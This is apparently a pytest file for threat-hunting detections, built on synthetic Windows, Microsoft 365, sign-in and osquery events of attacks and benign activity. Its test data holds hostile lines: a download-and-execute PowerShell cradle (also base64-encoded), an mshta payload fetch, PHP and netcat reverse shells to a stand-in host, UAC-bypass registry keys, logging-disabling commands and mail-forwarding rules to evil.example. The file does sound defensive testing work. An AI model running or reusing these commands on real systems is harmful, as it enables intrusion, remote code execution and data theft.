"""What the sample does not show: an attack in other forms, and honest work that looks like one.

The forms are those of public recordings and of Microsoft's documentation; nothing is copied.
"""

from __future__ import annotations

import json
from base64 import b64encode
from typing import Any, NamedTuple
from xml.sax.saxutils import escape

import pytest

from preview.generator import clock
from preview.spl import Configuration, Engine, MemoryStore
from tests.hunts.conftest import Finding, findings_of
from tests.shared import REPOSITORY

Record = dict[str, Any]
MORNING = clock.at("09:00:00")
SYSTEM32 = r"C:\Windows\System32"
USER = "anna@froth.ly"
DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://45.77.53.176/a')"


def record(source: str, sourcetype: str, raw: str, after: float = 0) -> Record:
    event = {"_time": MORNING + after, "_raw": raw, "index": "main", "host": "PC-1"}
    return {**event, "source": source, "sourcetype": sourcetype}


def windows(channel: str, number: int, after: float, data: dict[str, str]) -> Record:
    fields = "".join(f"<Data Name='{name}'>{escape(text)}</Data>" for name, text in data.items())
    raw = (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        f"<Provider Name='Microsoft-Windows-{channel.split('/')[0]}'/><EventID>{number}</EventID>"
        f"<Channel>Microsoft-Windows-{channel}</Channel><Computer>PC-1</Computer></System>"
        f"<EventData>{fields}</EventData></Event>"
    )
    return record(f"XmlWinEventLog:Microsoft-Windows-{channel}", "XmlWinEventLog", raw, after)


def sysmon(number: int, after: float = 0, **data: str) -> Record:
    return windows("Sysmon/Operational", number, after, data)


def set_class(key: str) -> Record:
    target = rf"HKU\S-1-5-21-1-2-3-1001_Classes\{key}"
    return sysmon(13, Image=rf"{SYSTEM32}\reg.exe", TargetObject=target, Details="cmd.exe")


def script(text: str) -> Record:
    return windows("PowerShell/Operational", 4104, 0, {"ScriptBlockText": text})


def call(after: float, image: str = r"C:\Users\anna\AppData\agent.exe") -> Record:
    connection = {"Image": image, "ProcessGuid": "{1}", "DestinationIp": "45.77.53.176"}
    return sysmon(3, after, **connection, DestinationPort="443")


def encoded(command: str) -> str:
    return b64encode(command.encode("utf-16-le")).decode("ascii")


def audit(operation: str, after: float = 0, **fields: object) -> Record:
    event = {"Operation": operation, "UserId": USER, "ObjectId": "o", **fields}
    return record("ms_o365_management", "o365:management:activity", json.dumps(event), after)


def download(after: float) -> Record:
    file = {"ObjectId": f"{after}.zip", "SourceFileName": "a.zip", "SourceFileExtension": "zip"}
    return audit("FileDownloaded", after, ClientIP="96.82.100.20", **file)


def mail(after: float) -> Record:
    event = {"SenderAddress": USER, "RecipientAddress": f"{after}@froth.ly", "Subject": "Look"}
    event["FromIP"] = "96.82.100.20"
    return record("trace", "ms:o365:reporting:messagetrace", json.dumps(event), after)


def probe(after: float) -> Record:
    event = {"src_ip": "10.0.0.1", "dest_ip": "10.0.0.2", "dest_port": after, "bytes": 60}
    return record("stream", "stream:ip", json.dumps(event), after)


def pairs(**values: str) -> list[dict[str, str]]:
    return [{"Name": name, "Value": value} for name, value in values.items()]


def signin(after: float, code: int = 0, user: str = USER, **fields: object) -> Record:
    event = {
        "userPrincipalName": user,
        "ipAddress": "96.82.100.20",
        "status": {"errorCode": code, "failureReason": "Other."},
        "location": {"countryOrRegion": "US"},
        **fields,
    }
    return record("graph", "ms:aad:signin", json.dumps(event), after)


def place(address: str, country: str, latitude: float, longitude: float) -> Record:
    coordinates = {"latitude": latitude, "longitude": longitude}
    location = {"countryOrRegion": country, "geoCoordinates": coordinates}
    return {"ipAddress": address, "location": location}


def process(command: str, path: str = "/usr/bin/nc") -> Record:
    columns = {"cmdline": command, "path": path, "uid": "33", "pid": "7", "parent": "6"}
    event = {"name": "pack_process-monitoring_proc_events", "columns": columns}
    return record("osqueryd.results.log", "osquery:results", json.dumps(event))


class Form(NamedTuple):
    """Events, and what a hunt has to find in them.

    :ivar evidence: a piece of the evidence.
    :ivar score: the least score.
    """

    hunt: str
    events: list[Record]
    evidence: str = ""
    score: float = 50


ATTACKS = {
    "UAC bypass by a class of the user": Form(
        "Endpoint - UAC bypass",
        [set_class(r"mscfile\shell\open\command\(Default)")],
        r"_Classes\mscfile\shell",
    ),
    "UAC bypass by the reset of the store": Form(
        "Endpoint - UAC bypass",
        [set_class(r"AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\Shell\open\command\(Default)")],
        "AppX82a6",
    ),
    "UAC bypass by another program than the usual child": Form(
        "Endpoint - UAC bypass",
        [
            sysmon(
                1,
                Image=r"C:\Users\anna\mmc.exe",
                ParentImage=rf"{SYSTEM32}\eventvwr.exe",
                CommandLine="mmc.exe",
                User="anna",
            )
        ],
        "eventvwr.exe",
    ),
    "thread from no module, written as a dash": Form(
        "Endpoint - Thread started in another process",
        [
            sysmon(
                8,
                SourceImage=r"C:\Users\anna\a.exe",
                TargetImage=rf"{SYSTEM32}\svchost.exe",
                StartModule="-",
            )
        ],
        "no module",
        90,
    ),
    "shell below the equation editor": Form(
        "Endpoint - Office program starts a shell",
        [
            sysmon(
                1,
                Image=rf"{SYSTEM32}\mshta.exe",
                ParentImage=r"C:\Program Files\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE",
                CommandLine="mshta http://203.0.113.9/a.hta",
                User="anna",
            )
        ],
        "EQNEDT32.EXE: mshta",
    ),
    "logging off by names in pieces": Form(
        "PowerShell - Script-block logging switched off",
        [script("$a['ScriptB'+'lockLogging']['EnableScriptB'+'lockLogging'] = 0")],
        "$a[",
    ),
    "logging off by a dictionary": Form(
        "PowerShell - Script-block logging switched off",
        [script('$v.Add("EnableScriptB"+"lockLogging", 0)')],
        "$v.Add",
    ),
    "logging off by a cmdlet": Form(
        "PowerShell - Script-block logging switched off",
        [script(r"sp HKLM:\SOFTWARE\x\ScriptBlockLogging -n EnableScriptBlockLogging -Value 0")],
        "-Value 0",
    ),
    "rule of Outlook": Form(
        "Microsoft 365 - Inbox rule that forwards or hides",
        [
            audit(
                "UpdateInboxRules",
                OperationProperties=pairs(
                    RuleOperation="AddMailboxRule",
                    RuleActions='[{"ActionType":"Forward","Recipients":["x@evil.example"]}]',
                ),
            )
        ],
        "from an unknown address: RuleOperation=AddMailboxRule; RuleActions=",
        85,
    ),
    "rule that forwards inside and outside": Form(
        "Microsoft 365 - Inbox rule that forwards or hides",
        [audit("New-InboxRule", Parameters=pairs(ForwardTo="x@evil.example;b@froth.ly"))],
        "x@evil.example",
        85,
    ),
    "role of the directory": Form(
        "Microsoft 365 - Role group changed",
        [
            audit(
                "Add member to role.",
                ModifiedProperties=[
                    {"Name": "Role.DisplayName", "NewValue": "Company Administrator"},
                    {"Name": "Role.TemplateId", "NewValue": "62e90394"},
                ],
            )
        ],
        "Add member to role. Company Administrator",
        85,
    ),
    "wrong passwords in the schema of Graph": Form(
        "Identity - Failures, then success",
        [*(signin(second, 50126) for second in (0, 20, 40)), signin(60)],
        "3 failures from 96.82.100.20",
    ),
    "travel without a device": Form(
        "Identity - Impossible travel",
        [
            signin(0, **place("96.82.100.20", "US", 37.8, -122.4)),
            signin(900, **place("104.207.83.63", "HK", 22.3, 114.2)),
        ],
        "900 s later 104.207.83.63",
    ),
    "network of a home that nobody else uses": Form(
        "Identity - Rare or hosting network",
        [
            *(signin(0, user=f"{name}@froth.ly") for name in "abcd"),
            signin(0),
            signin(3600, ipAddress="99.224.10.20"),
        ],
        "99.224.10.20 Rogers",
    ),
    "beacon with a pause": Form(
        "Network - Beacons of a process",
        [call(60 * number + (number >= 30) * 7200) for number in range(60)],
        "60 calls, 98 % of them 60.0 s after the last",
    ),
    "archives on both sides of a half hour": Form(
        "Microsoft 365 - Archives downloaded in a burst",
        [download(1800 + second) for second in range(-150, 150, 60)],
        "5 archives to 96.82.100.20",
    ),
    "lure on both sides of ten minutes": Form(
        "Mail - Lure subject spread internally",
        [mail(600 + second) for second in range(-150, 150, 30)],
        "to 10 colleagues",
    ),
    "scan on both sides of ten minutes": Form(
        "Network - Scan of the inside",
        [probe(600 + second) for second in range(-50, 50)],
        "100 pairs",
    ),
    "scan within both windows of its events": Form(
        "Network - Scan of the inside", [probe(second) for second in range(310, 430)], "120 pairs"
    ),
    "address of a command before its port": Form(
        "Network - Indicator across hosts",
        [
            sysmon(1, Image="powershell.exe", CommandLine=f"powershell -enc {encoded(DOWNLOAD)}"),
            record(
                "udp:514", "cisco:asa", "Deny tcp src outside:10.0.0.1/80 dst (45.77.53.176/443)"
            ),
        ],
        "1 events of cisco:asa",
    ),
    "shell by PHP": Form(
        "Linux - Reverse shell",
        [process('php -r \'$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3");\'')],
        "fsockopen",
    ),
    "shell by options in one": Form(
        "Linux - Reverse shell", [process("nc -ne /bin/sh 203.0.113.9 4444")], "nc -ne"
    ),
    "interactive shell of a web server": Form(
        "Linux - Service account runs a shell", [process("sh -i", "/bin/sh")], "user 33: sh -i"
    ),
}

HONEST = {
    "event viewer opened": Form(
        "Endpoint - UAC bypass",
        [
            sysmon(
                1,
                Image=rf"{SYSTEM32}\mmc.exe",
                ParentImage=rf"{SYSTEM32}\eventvwr.exe",
                CommandLine=rf'"{SYSTEM32}\mmc.exe" "{SYSTEM32}\eventvwr.msc" /s',
                User="anna",
            )
        ],
    ),
    "policy test of PowerShell": Form(
        "Endpoint - Rare file in a temporary folder",
        [
            sysmon(
                11,
                Image=rf"{SYSTEM32}\WindowsPowerShell\v1.0\powershell.exe",
                TargetFilename=r"C:\Users\a\AppData\Local\Temp\__PSScriptPolicyTest_x1.zw2.ps1",
            )
        ],
    ),
    "second factor asked for": Form(
        "Identity - Failures, then success",
        [
            *(signin(20 * number, code) for number, code in enumerate((50074, 50140, 50076))),
            signin(90),
        ],
    ),
    "wrong passwords after the success": Form(
        "Identity - Failures, then success",
        [signin(0), *(signin(second, 50126) for second in (20, 40, 60))],
    ),
    "rule that forwards inside": Form(
        "Microsoft 365 - Inbox rule that forwards or hides",
        [audit("New-InboxRule", Parameters=pairs(ForwardTo="b@froth.ly"))],
    ),
    "transport rule that deletes nothing": Form(
        "Microsoft 365 - Transport rule that copies or redirects mail",
        [audit("Set-TransportRule", Parameters=pairs(Identity="x", DeleteMessage="False"))],
    ),
    "permission of the service itself": Form(
        "Microsoft 365 - Mailbox permission granted",
        [
            audit(
                "Add-MailboxPermission",
                UserId=r"NT AUTHORITY\SYSTEM (Microsoft.Exchange.ServiceHost)",
                Parameters=pairs(User="b", AccessRights="FullAccess"),
            )
        ],
    ),
    "bursts of connections": Form(
        "Network - Beacons of a process",
        [call(600 * burst + number / 50) for burst in range(6) for number in range(10)],
    ),
    "port looked at": Form("Linux - Reverse shell", [process("nc -zv db01 5432")]),
}


def hunted(form: Form) -> list[Finding]:
    store = MemoryStore(form.events, Configuration(REPOSITORY))
    return findings_of(Engine(REPOSITORY, store), f"Huntpipe - {form.hunt}")


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_found(name: str) -> None:
    form = ATTACKS[name]
    (finding,) = hunted(form)
    assert form.evidence in finding["evidence"]
    assert float(finding["score"]) >= form.score


@pytest.mark.parametrize("name", HONEST)
def test_honest_work_is_left_out(name: str) -> None:
    assert hunted(HONEST[name]) == []
